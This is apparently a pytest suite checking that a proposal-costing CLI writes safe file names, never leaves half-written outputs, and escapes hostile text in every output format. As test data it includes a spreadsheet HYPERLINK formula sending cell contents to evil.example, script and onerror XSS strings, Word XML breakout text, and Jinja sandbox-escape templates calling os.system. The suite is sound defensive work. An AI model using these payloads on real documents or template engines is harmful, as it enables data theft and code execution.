"""Safe names, safe places, safe content, and nothing half-written.

- Output names come from the proposal's reference through ``safe_stem``: whatever the reference
  (``../../etc/x``, ``CON``, slashes, control characters, 500 characters, nothing usable), the
  name is valid on Windows, macOS and Linux and the file lands inside ``--out``.
- ``write_outputs`` renders every format in memory, writes temporary files, then renames: a
  renderer or a write that fails leaves the previous outputs as they were and no temporary file.
- Proposal text never becomes a spreadsheet formula, HTML markup or Word XML, in any format
  registered in ``RENDERERS``.
- A crash prints one line, never a traceback with the proposal's contents.
"""

from __future__ import annotations

import html
import io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from estimator.cli.app import app
from estimator.core.estimate import Estimate
from estimator.core.pipeline import estimate
from estimator.render import markdown, outputs
from estimator.render.options import RenderOptions
from estimator.render.outputs import RENDERERS, estimate_json, safe_stem, write_outputs

WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10))}
WINDOWS_RESERVED |= {f"LPT{i}" for i in range(1, 10)}
PORTABLE = re.compile(r"^[A-Za-z0-9_+()\[\]][A-Za-z0-9._+()\[\]-]*$")


def _portable(stem: str) -> bool:
    """Valid as a file name on Windows, macOS and Linux, and never hidden or option-like."""
    return (
        bool(PORTABLE.match(stem))
        and not stem.endswith((".", " ", "-"))
        and stem.split(".")[0].upper() not in WINDOWS_RESERVED
        and len(stem) <= 120
    )


@pytest.mark.parametrize(
    ("reference", "stem"),
    [
        ("PP26/44A2/1", "PP26-44A2-1"),
        ("../../etc/x", "etc-x"),
        ("/etc/passwd", "etc-passwd"),
        ("..\\..\\Windows\\win.ini", "Windows-win.ini"),
        ("CON", "_CON"),
        ("con.txt", "_con.txt"),
        ("LPT9", "_LPT9"),
        ("COM\u00b9", "_COM1"),  # a superscript one is COM1 to Windows
        ("a/b\\c", "a-b-c"),
        ('a:b*c?d"e<f>g|h', "a-b-c-d-e-f-g-h"),
        ("line\nbreak\x00nul\x1b[31mred", "line-break-nul-[31mred"),
        ("C\u00f4te d'Ivoire/1", "Cote-d-Ivoire-1"),
        ("report.", "report"),
        (" -leading dash", "leading-dash"),
        ("WTSA24/12(Add.1)", "WTSA24-12(Add.1)"),
    ],
)
def test_safe_stem_makes_a_portable_name_from_a_hostile_reference(
    reference: str, stem: str
) -> None:
    assert safe_stem(reference) == stem
    assert _portable(stem)


def test_a_very_long_reference_is_cut_to_120_characters_without_a_trailing_dot() -> None:
    assert safe_stem("x" * 500) == "x" * 120
    # cut at 120, the 120th character is a dot: it goes
    assert safe_stem("x" * 119 + ".pdf") == "x" * 119


def test_references_with_nothing_usable_get_distinct_names() -> None:
    names = {safe_stem(r) for r in ("日本", "中文", "...", "", "///", "\x00")}
    assert len(names) == 6
    assert all(re.fullmatch(r"proposal-[0-9a-f]{8}", n) for n in names)


@given(st.text(max_size=300))
def test_any_reference_gives_a_portable_name_inside_the_output_folder(reference: str) -> None:
    stem = safe_stem(reference)
    assert _portable(stem), stem
    out = Path("/srv/out")
    assert (out / f"{stem}.annex.docx").parent == out
    assert ".." not in Path(stem).parts


PROPOSAL = """\
format = 1

[proposal]
reference = {reference}
title = {title}
conference = "PP-26"
submitted_by = [{title}]
responsible = "GS"
period = [2027, 2027]
requests = [{title}]

[[activity]]
id = "adviser"
kind = "consultant"
title = {title}
note = {title}
days = {days}

[[activity]]
id = "portal"
kind = "services"
title = {title}
amount = 1000
justification = {title}
"""


def _proposal(
    path: Path, reference: str = "PP26/1", title: str = "A proposal", days: int = 10
) -> Path:
    text = PROPOSAL.format(
        reference=json.dumps(reference), title=json.dumps(title, ensure_ascii=False), days=days
    )
    path.write_text(text, encoding="utf-8")
    return path


def _estimate(path: Path) -> Estimate:
    outcome = estimate(path)
    assert outcome.estimate is not None, [d.render() for d in outcome.diagnostics]
    return outcome.estimate


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_an_estimate_with_a_traversing_reference_writes_only_inside_out(tmp_path: Path) -> None:
    out = tmp_path / "deep" / "out"
    proposal = _proposal(tmp_path / "p.toml", reference="../../../escaped/CON")
    result = CliRunner().invoke(
        app, ["estimate", str(proposal), "--out", str(out)], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    assert sorted(_files(tmp_path)) == sorted(
        ["p.toml", *(f"deep/out/escaped-CON.{suffix}" for suffix, _ in RENDERERS.values())]
    )


# -- nothing half-written ------------------------------------------------------------------------


@pytest.fixture
def previous(tmp_path: Path) -> tuple[Path, Estimate, dict[str, bytes]]:
    """A folder holding the outputs of a first run, and the estimate of a changed proposal."""
    out = tmp_path / "out"
    write_outputs(_estimate(_proposal(tmp_path / "v1.toml", days=10)), out)
    changed = _estimate(_proposal(tmp_path / "v2.toml", days=20))
    return out, changed, _files(out)


def _broken(estimate: Estimate, options: RenderOptions) -> bytes:
    raise RuntimeError("renderer failed")


def test_a_failing_renderer_leaves_the_previous_outputs_untouched_and_no_temporary_file(
    previous: tuple[Path, Estimate, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    out, changed, before = previous
    assert len(before) == len(RENDERERS)
    last = [*RENDERERS][-1]  # the broken one comes last: every other one rendered fine
    monkeypatch.setitem(RENDERERS, last, (RENDERERS[last][0], _broken))
    with pytest.raises(RuntimeError, match="renderer failed"):
        write_outputs(changed, out)
    assert _files(out) == before


def test_a_write_that_fails_half_way_leaves_the_previous_outputs_and_no_temporary_file(
    previous: tuple[Path, Estimate, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The disk fills up while the third temporary file is written."""
    out, changed, before = previous
    real_fdopen = outputs.os.fdopen
    opened: list[int] = []

    def fdopen(fd: int, mode: str) -> io.BufferedWriter:
        opened.append(fd)
        f: io.BufferedWriter = real_fdopen(fd, mode)
        if len(opened) == 3:

            def full(data: bytes) -> int:
                raise OSError(28, "No space left on device")

            f.write = full  # type: ignore[method-assign]
        return f

    monkeypatch.setattr(outputs.os, "fdopen", fdopen)
    with pytest.raises(OSError, match="No space left"):
        write_outputs(changed, out)
    assert len(opened) == 3
    assert _files(out) == before


def test_a_successful_run_replaces_every_output_and_leaves_no_temporary_file(
    previous: tuple[Path, Estimate, dict[str, bytes]],
) -> None:
    out, changed, before = previous
    write_outputs(changed, out)
    after = _files(out)
    assert sorted(after) == sorted(before)
    assert json.loads(after["PP26-1.estimate.json"]) == estimate_json(changed)
    assert after["PP26-1.estimate.json"] != before["PP26-1.estimate.json"]


def test_a_recent_temporary_file_of_another_run_is_left_alone_an_old_one_removed(
    tmp_path: Path,
) -> None:
    """Another run may be writing the same proposal now: only debris over an hour old goes."""
    out = tmp_path / "out"
    out.mkdir()
    running = out / ".PP26-1.estimate.json.abc123.part"
    killed = out / ".PP26-1.estimate.json.def456.part"
    other = out / ".PP26-2.estimate.json.ghi789.part"
    for p in (running, killed, other):
        p.write_bytes(b"{")
    two_hours_ago = time.time() - 7200
    for p in (killed, other):
        os.utime(p, (two_hours_ago, two_hours_ago))
    write_outputs(_estimate(_proposal(tmp_path / "p.toml")), out, RenderOptions(formats=("json",)))
    # the old debris of another proposal stays: this run only tidies its own names
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["PP26-1.estimate.json", running.name, other.name]
    )


def test_outputs_are_readable_by_others_like_any_file_not_private_like_a_temp_file(
    tmp_path: Path,
) -> None:
    out = tmp_path / "out"
    [path] = write_outputs(
        _estimate(_proposal(tmp_path / "p.toml")), out, RenderOptions(formats=("json",))
    )
    assert path.stat().st_mode & 0o644 == 0o644  # rw-r--r-- under the usual umask 022


# -- safe content ----------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = (
    f"{FORMULA} +1+2 -3+4 @SUM(A1:A9) <script>alert('x')</script> <b>bold</b> "
    "</w:t></w:r><w:r><w:t>injected &amp; {{ 7*7 }} {% raw %}"
)


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Every registered format, rendered from a proposal whose every text is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    est = _estimate(_proposal(folder / "p.toml", reference="PP26/1", title=HOSTILE))
    return {fmt: renderer(est, RenderOptions()) for fmt, (_, renderer) in RENDERERS.items()}


def _need(formats: dict[str, bytes], fmt: str) -> bytes:
    if fmt not in formats:
        pytest.skip(f"the {fmt} output is not registered yet")
    return formats[fmt]


def test_json_carries_the_text_exactly(hostile_outputs: dict[str, bytes]) -> None:
    data = json.loads(_need(hostile_outputs, "json"))
    assert data["proposal"]["title"] == HOSTILE


def test_html_shows_markup_from_the_proposal_as_text(hostile_outputs: dict[str, bytes]) -> None:
    html = _need(hostile_outputs, "html").decode("utf-8")
    assert "<script>" not in html
    assert "<b>bold</b>" not in html
    assert "&lt;script&gt;alert(" in html
    assert "{{ 7*7 }}" in html  # and no template runs it


def test_markdown_does_not_pass_raw_html_from_the_proposal(
    hostile_outputs: dict[str, bytes],
) -> None:
    """Markdown viewers render inline HTML: the annex must not carry the proposal's."""
    md = _need(hostile_outputs, "md").decode("utf-8")
    assert "<script>" not in md
    assert "script" in md and "alert(" in md  # shown, as text


def test_word_keeps_the_text_inside_its_own_text_run(hostile_outputs: dict[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(_need(hostile_outputs, "docx"))) as z:
        xml = z.read("word/document.xml")
    root = ElementTree.fromstring(xml)  # well-formed: nothing broke out of the XML
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    texts = [t.text or "" for t in root.iter(f"{w}t")]
    joined = "".join(texts)
    assert "</w:t></w:r><w:r><w:t>injected" in joined  # shown as text, not read as XML
    assert not any(t == "injected &amp; {{ 7*7 }} {% raw %}" for t in texts)


def test_the_workbook_holds_proposal_text_as_text_never_as_a_formula(
    hostile_outputs: dict[str, bytes],
) -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(_need(hostile_outputs, "xlsx")))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formula = str(cell.value)
                    assert "HYPERLINK" not in formula and "evil" not in formula, cell.coordinate
                    assert "SUM(A1:A9)" not in formula, cell.coordinate
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    # the title is in the workbook, whole, as a text cell
    assert HOSTILE in texts, "the hostile title is not in the workbook"


def test_a_cell_starting_with_each_formula_character_stays_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    if "xlsx" not in RENDERERS:
        pytest.skip("the xlsx output is not registered yet")
    for lead in ("=1+1", "+1+1", "-1+1", "@SUM(1)"):
        est = _estimate(_proposal(tmp_path / "p.toml", title=lead))
        book = load_workbook(io.BytesIO(RENDERERS["xlsx"][1](est, RenderOptions())))
        cells = [c for s in book.worksheets for r in s.iter_rows() for c in r]
        assert any(c.value == lead and c.data_type == "s" for c in cells), lead
        assert not any(c.data_type == "f" and lead[1:] in str(c.value) for c in cells), lead


# -- crashes -------------------------------------------------------------------------------------

CRASH = """\
import sys
import estimator.cli.app as cli
import estimator.core.pipeline as pipeline

def boom(path, *args, **kwargs):
    secret = open(path, encoding="utf-8").read()  # proposal contents in a local variable
    raise RuntimeError("bug while pricing " + secret[:0])

pipeline.estimate = boom  # the command imports it when it runs
sys.argv = ["finimpact", "estimate", sys.argv[1], "--out", sys.argv[2]]
cli.main()
"""


def test_an_internal_error_prints_one_line_without_the_proposal_contents(tmp_path: Path) -> None:
    """A real process: Typer's pretty traceback, with or without locals, must not appear."""
    proposal = _proposal(tmp_path / "p.toml", title="CONFIDENTIAL-DRAFT-TEXT")
    run = subprocess.run(
        [sys.executable, "-c", CRASH, str(proposal), str(tmp_path / "out")],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 3
    assert run.stdout == ""
    assert run.stderr.splitlines() == ["finimpact: internal error (RuntimeError); please report it"]
    assert not (tmp_path / "out").exists()


def test_an_output_folder_under_a_file_is_a_usage_error_naming_the_file(tmp_path: Path) -> None:
    proposal = _proposal(tmp_path / "p.toml")
    (tmp_path / "a-file").write_text("not a folder", encoding="utf-8")
    result = CliRunner().invoke(
        app,
        ["estimate", str(proposal), "--out", str(tmp_path / "a-file" / "out")],
        catch_exceptions=False,
    )
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == (
        f"Error: Invalid value for --out: {tmp_path / 'a-file'} is a file (on the way to"
        f" {tmp_path / 'a-file' / 'out'}), not a folder: give a folder for the outputs (one that"
        " does not exist yet is made)"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file", "p.toml"]


def test_escape_sequences_in_a_title_are_shown_not_obeyed_by_the_terminal(
    tmp_path: Path,
) -> None:
    """ESC [2J clears a terminal; ESC ]0; retitles it: the summary shows them as \\x1b."""
    proposal = _proposal(tmp_path / "p.toml", title="Plan\u001b[2J\u001b]0;owned\u0007")
    result = CliRunner().invoke(
        app, ["estimate", str(proposal), "--out", str(tmp_path / "out")], catch_exceptions=False
    )
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "Plan\\x1b[2J\\x1b]0;owned\\x07" in result.stdout


NOT_XML = "a\x01b\x0bc\x1fd\ufffee\uffff f"
"""Characters a TOML string can hold and XML 1.0 cannot: control characters, U+FFFE, U+FFFF."""


def test_characters_xml_cannot_hold_are_shown_as_a_replacement_in_every_output(
    tmp_path: Path,
) -> None:
    """Such a title once ended the workbook, and such a reference the Word annex's header, in
    an internal error: every format is written, the JSON keeps the text exactly, and the
    workbook and the Word annex show U+FFFD where XML cannot follow."""
    from openpyxl import load_workbook

    est = _estimate(_proposal(tmp_path / "p.toml", reference=NOT_XML, title=NOT_XML))
    rendered = {fmt: renderer(est, RenderOptions()) for fmt, (_, renderer) in RENDERERS.items()}
    shown = "a\ufffdb\ufffdc\ufffdd\ufffde\ufffd f"
    data = json.loads(rendered["json"])["proposal"]
    assert data["title"] == data["reference"] == NOT_XML
    book = load_workbook(io.BytesIO(rendered["xlsx"]))
    texts = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
    assert shown in texts
    with zipfile.ZipFile(io.BytesIO(rendered["docx"])) as z:
        for part in ("word/document.xml", "word/header1.xml"):
            assert shown.encode("utf-8") in z.read(part), part


def test_a_batch_reports_proposals_whose_text_xml_cannot_hold(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    _proposal(tmp_path / "in" / "p.toml", title=NOT_XML)
    result = CliRunner().invoke(app, ["batch", str(tmp_path / "in"), "--out", str(tmp_path / "o")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "o" / "batch-report.xlsx").is_file()


# -- Markdown: every text renders as itself (CommonMark, as markdown-it-py parses it) -------------

MARKDOWN = MarkdownIt("commonmark").enable("table")
MD_HOSTILE = (
    "Start ~~~ fence\n~~~\nfenced?\n\n    four spaces\n\n\ttab\n```\n# heading?\n| a | b |\n"
    "|---|---|\n<img src=x onerror=alert(1)>\n*em* _em_ [link](http://x) ![i](y) &amp; x\n"
    "1. one\n---\n> quote\rnot # a heading ##\n   ===\nend"
)
"""What broke out of its place in the Markdown annex and the batch report: a fence (~~~ and
```), indents of four spaces or a tab after a blank line (code blocks), raw HTML, headings (ATX,
setext, after a lone carriage return), a table, emphasis, links, an entity, a list, a rule."""
UNSAFE_TOKENS = {"fence", "code_block", "html_block", "html_inline", "image", "link_open"}


def _rendered_text(markdown_text: str) -> str:
    """What a reader sees of a Markdown document: its rendered text, spaces collapsed."""
    shown = re.sub(r"<[^>]*>", " ", MARKDOWN.render(markdown_text))
    return " ".join(html.unescape(shown).split())


def _as_read(text: str) -> str:
    """The text a reader must see for a text from a file (CommonMark shows NUL as U+FFFD)."""
    return " ".join(text.replace("\x00", "\ufffd").split())


def _blocks(markdown_text: str) -> dict[str, int]:
    tokens = MARKDOWN.parse(markdown_text)
    every = tokens + [c for t in tokens for c in (t.children or [])]
    kinds = [t.type for t in every]
    return {
        "headings": kinds.count("heading_open"),
        "tables": kinds.count("table_open"),
        **{kind: kinds.count(kind) for kind in UNSAFE_TOKENS},
    }


AWKWARD_MD = "\x00\t\n\r\x0b\x0c\x1c\x85\u2028 `~*_[]()<>!#|&;-+=.:1\\\"'\u00a0"


@given(st.text(st.one_of(st.characters(exclude_categories=("Cs",)), st.sampled_from(AWKWARD_MD))))
def test_the_markdown_escaper_renders_any_text_as_itself_in_each_place_it_is_put(
    text: str,
) -> None:
    places = [
        (markdown.text, "{}"),
        (markdown.item, "- {}"),
        (markdown.quote, "{}"),
        (markdown.line, "### {}"),
        (markdown.cell, "| heading |\n|---|\n| {} |"),
    ]
    for escape, place in places:
        document = place.format(escape(text))
        blocks = _blocks(document)
        assert not any(blocks[kind] for kind in UNSAFE_TOKENS), (escape.__name__, document)
        shown = _rendered_text(document).removeprefix("heading").strip()
        assert shown == _as_read(text), (escape.__name__, document)


def _hostile_card(folder: Path) -> Path:
    """The default card, with every label and source a Markdown hostile text."""
    from cost_models import CARDS, DEFAULT_CARD

    text = (CARDS / f"{DEFAULT_CARD}.toml").read_text("utf-8")
    hostile = json.dumps(MD_HOSTILE)
    text = re.sub(r'^(\s*(label|source) = )".*"$', lambda m: m[1] + hostile, text, flags=re.M)
    path = folder / "card.toml"
    path.write_text(text, "utf-8")
    return path


def test_markdown_annex_keeps_its_headings_and_tables_whatever_the_proposal_and_card_say(
    tmp_path: Path,
) -> None:
    """~~~ fences and indents in proposal or card text turned the rest of the annex into code
    blocks (0 headings and 0 tables instead of 7 and 7); raw HTML passed through."""
    card = _hostile_card(tmp_path)
    plain = estimate(_proposal(tmp_path / "plain.toml"), card).estimate
    hostile = estimate(_proposal(tmp_path / "p.toml", title=MD_HOSTILE), card).estimate
    assert plain is not None and hostile is not None
    _, render = RENDERERS["md"]
    plain_md = render(plain, RenderOptions()).decode("utf-8")
    hostile_md = render(hostile, RenderOptions()).decode("utf-8")
    blocks = _blocks(hostile_md)
    assert blocks == _blocks(plain_md)
    assert blocks["headings"] >= 7 and blocks["tables"] >= 5
    assert not any(blocks[kind] for kind in UNSAFE_TOKENS)
    shown = _rendered_text(hostile_md)
    assert shown.count(_as_read(MD_HOSTILE)) >= 6  # title, submitter, request, activity, note...


def test_a_failed_proposal_named_to_break_out_of_the_batch_report_is_shown_as_its_name(
    tmp_path: Path,
) -> None:
    """The name of a proposal that could not be costed was put in a code span: a backtick in
    it ended the span, and the rest was raw HTML (<img onerror>) in any viewer."""
    folder = tmp_path / "in"
    folder.mkdir()
    name = "x`<img src=x onerror=alert(1)>`~~~\t#.toml"
    (folder / name).write_text("format = 1\n[proposal\n", "utf-8")
    _proposal(folder / "ok.toml", reference="PP26/1", title=MD_HOSTILE)
    result = CliRunner().invoke(app, ["batch", str(folder), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1, result.output
    report = (tmp_path / "o" / "batch-report.md").read_text("utf-8")
    blocks = _blocks(report)
    assert not any(blocks[kind] for kind in UNSAFE_TOKENS), blocks
    shown = _rendered_text(report)
    assert _as_read(name) in shown
    assert _as_read(MD_HOSTILE) in shown


# -- terminal output ---------------------------------------------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[2J"
"""Retitles a terminal window, then clears the screen."""


def test_escape_sequences_in_file_names_and_card_text_are_shown_not_obeyed(
    tmp_path: Path,
) -> None:
    proposal = _proposal(tmp_path / f"p{ESCAPES}.toml", reference=f"PP26/1{ESCAPES}")
    card = tmp_path / "card.toml"
    card.write_text(
        _hostile_card(tmp_path).read_text("utf-8").replace(json.dumps(MD_HOSTILE), '"x\\u001b[2J"'),
        "utf-8",
    )
    runs = [
        ["validate", str(proposal)],
        ["estimate", str(proposal), "--out", str(tmp_path / f"out{ESCAPES}")],
        ["batch", str(proposal), "--out", str(tmp_path / f"b{ESCAPES}")],
        ["rates", "--rates", str(card)],
        ["validate", str(tmp_path / f"missing{ESCAPES}.toml")],
    ]
    for args in runs:
        result = CliRunner().invoke(app, args, catch_exceptions=False)
        assert result.exit_code in (0, 1), result.output
        printed = result.stdout + result.stderr
        assert "\x1b" not in printed and "\x07" not in printed, args
        assert "\\x1b" in printed, args


def _c_locale() -> dict[str, str]:
    """A process whose standard output is ASCII: LANG=C without Python's UTF-8 mode."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("LC_", "PYTHONIO"))}
    return {**env, "LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}


@pytest.mark.parametrize("json_flag", [[], ["--json"]], ids=["summary", "json"])
def test_an_ascii_standard_output_never_fails_a_run_after_its_outputs_were_written(
    tmp_path: Path, json_flag: list[str]
) -> None:
    proposal = _proposal(tmp_path / "p.toml", reference="PP26/1 ✓", title="Côte d'Ivoire ✓ 😀")
    args = [sys.executable, "-m", "estimator", "estimate", str(proposal), *json_flag]
    run = subprocess.run(
        [*args, "--out", str(tmp_path / "out")],
        capture_output=True,
        env=_c_locale(),
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    if json_flag:  # JSON is UTF-8, whatever the locale
        assert json.loads(run.stdout.decode("utf-8"))["proposal"]["title"] == "Côte d'Ivoire ✓ 😀"
    else:
        assert "d'Ivoire" in run.stdout.decode("utf-8", "replace")


# -- init: every refusal is one line and exit 1 --------------------------------------------------


def _init(*args: str) -> Any:
    return CliRunner().invoke(app, ["init", *args], catch_exceptions=False)


def test_init_refuses_a_missing_folder_a_folder_and_a_special_file_in_one_line(
    tmp_path: Path,
) -> None:
    (tmp_path / "folder").mkdir()
    cases = {
        str(tmp_path / "nowhere" / "p.toml"): "does not exist",
        str(tmp_path / "folder"): "is a folder",
        "/dev/null": "is not a regular file",
    }
    for target, words in cases.items():
        result = _init(target, "--force")
        assert result.exit_code == 1, result.output
        [line] = result.stderr.splitlines()
        assert words in line
    assert list((tmp_path / "folder").iterdir()) == []


@pytest.mark.parametrize(
    "error", [OSError(28, "No space left on device"), OSError(30, "Read-only file system")]
)
def test_init_on_a_full_or_read_only_disk_says_so_and_leaves_no_half_written_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: OSError
) -> None:
    def refuse(fd: int) -> None:
        raise error

    monkeypatch.setattr(os, "fsync", refuse)
    target = tmp_path / "p.toml"
    result = _init(str(target))
    assert result.exit_code == 1
    assert result.stderr == f"finimpact: cannot write {target}: {error.strerror}\n"
    assert not target.exists()


# -- a user's --template is Jinja code: it runs in the sandbox -----------------------------------


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("{% macro f(x) %}{{ f(x) }}{% endmacro %}{{ f(1) }}", "calls itself without end"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "not allowed in a template"),
        ("{{ annex.__class__.__init__.__globals__ }}", "not allowed in a template"),
        ("{{ cycler.__init__.__globals__.os.system('id') }}", "not allowed in a template"),
    ],
    ids=["recursive-macro", "subclasses", "globals", "os-system"],
)
def test_a_template_that_recurses_or_reaches_for_python_stops_in_one_line_and_writes_nothing(
    tmp_path: Path, source: str, words: str
) -> None:
    template = tmp_path / "mine.md.j2"
    template.write_text(source, "utf-8")
    proposal = _proposal(tmp_path / "p.toml")
    out = tmp_path / "out"
    args = ["estimate", str(proposal), "--template", str(template), "--out", str(out)]
    result = CliRunner().invoke(app, args, catch_exceptions=False)
    assert result.exit_code == 1
    [line] = result.stderr.splitlines()
    assert line.startswith(f"finimpact: template {template}: ") and words in line
    assert not out.exists() or list(out.iterdir()) == []


# -- outputs depend on the input's content and options, never on where the files were -----------


def _outputs_from(tmp_path: Path, out: str, absolute: bool, command: str) -> dict[str, bytes]:
    where = (lambda name: str(tmp_path / name)) if absolute else (lambda name: name)
    folder = tmp_path / out
    args = [command, where("in/p.toml"), where("in/q.toml")] if command == "batch" else []
    if command == "estimate":
        args = [command, where("in/p.toml")]
    args += ["--rates", where("card.toml"), "--out", where(out)]
    result = CliRunner().invoke(app, args, catch_exceptions=False)
    assert result.exit_code in (0, 1), result.output
    return {p.name: p.read_bytes() for p in folder.iterdir()}


@pytest.mark.parametrize("command", ["estimate", "batch"])
def test_outputs_are_the_same_bytes_from_an_absolute_or_a_relative_path_and_hold_no_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    """The JSON and the workbook changed with the path given, and the absolute local path (a
    user name, a folder structure) was written into a workbook meant to be shared."""
    (tmp_path / "in").mkdir()
    _proposal(tmp_path / "in" / "p.toml")
    _proposal(tmp_path / "in" / "q.toml", reference="PP26/1")  # a failure: same reference
    (tmp_path / "card.toml").write_bytes(_hostile_card(tmp_path).read_bytes())
    monkeypatch.chdir(tmp_path)
    relative = _outputs_from(tmp_path, "rel", absolute=False, command=command)
    absolute = _outputs_from(tmp_path, "abs", absolute=True, command=command)
    assert relative == absolute
    folder = str(tmp_path).encode("utf-8")
    for name, data in absolute.items():
        if name.endswith((".xlsx", ".docx")):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                data = b"".join(z.read(n) for n in z.namelist())
        assert folder not in data, name


# -- the workbook reproduces whatever the JSON says, at the bounds of what a card may hold --------

EDGE_CARD = """\
format = 1

[card]
id = "edge"
title = "A card at the bounds: the largest escalation, the earliest date, the smallest rate"
currency = "CHF"
escalation = 0.5
words_per_page = 300

[[rate]]
id = "consultant.day"
label = "Consultant, one day"
unit = "day"
  [[rate.value]]
  from = 1900-03-01
  amount = 0.0000000001
  source = "Test figure"
  basis = "assumed"
  assumption = "The smallest positive rate a card may hold, escalated for a century"
"""


@pytest.mark.libreoffice
def test_a_card_at_the_bounds_gives_a_workbook_whose_formulas_recalculate_to_the_json(
    tmp_path: Path,
) -> None:
    """A card built to overflow (a value from year 1, escalated at 50% a year) gave figures the
    workbook's formulas could not reproduce (#NUM!): the bounds on dates and numbers keep
    every escalation, rate and amount within what a spreadsheet computes. (A value from
    1900-01-01, before the spreadsheets' 1900 leap-year bug ends, was escalated a year more in
    the workbook than in the JSON: dates start on 1 March 1900.)"""
    import openpyxl
    from libreoffice import convert

    card = tmp_path / "card.toml"
    card.write_text(EDGE_CARD, "utf-8")
    proposal = tmp_path / "p.toml"
    text = PROPOSAL.split('[[activity]]\nid = "portal"')[0].replace("[2027, 2027]", "[2000, 2001]")
    proposal.write_text(
        text.format(reference='"EDGE/1"', title='"Edge"', days=1)
        .replace('note = "Edge"\n', "")
        .replace("days = 1\n", 'days = 1\nper = "year"\n'),
        "utf-8",
    )
    outcome = estimate(proposal, card)
    assert outcome.estimate is not None, [d.render() for d in outcome.diagnostics]
    data = json.loads(RENDERERS["json"][1](outcome.estimate, RenderOptions()))
    assert [line["amount"] for line in data["lines"]] == ["40656117.75", "60984176.63"]
    written = tmp_path / "edge.xlsx"
    written.write_bytes(RENDERERS["xlsx"][1](outcome.estimate, RenderOptions()))
    stripped = tmp_path / "in" / "edge.xlsx"  # without the values the tool cached
    stripped.parent.mkdir()
    openpyxl.load_workbook(written).save(stripped)
    [recalculated] = convert([stripped], "xlsx", tmp_path / "recalculated")
    book = openpyxl.load_workbook(recalculated, data_only=True)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    errors = ("#NUM!", "#VALUE!", "#DIV/0!", "#REF!", "#NAME?", "#N/A", "Err:")
    assert not [
        c.coordinate for c in cells if c.data_type == "e" or str(c.value).startswith(errors)
    ]
    numbers = {round(c.value, 2) for c in cells if isinstance(c.value, int | float)}
    near = sorted(n for n in numbers if n > 1_000_000)
    assert {float(line["amount"]) for line in data["lines"]} <= numbers, near
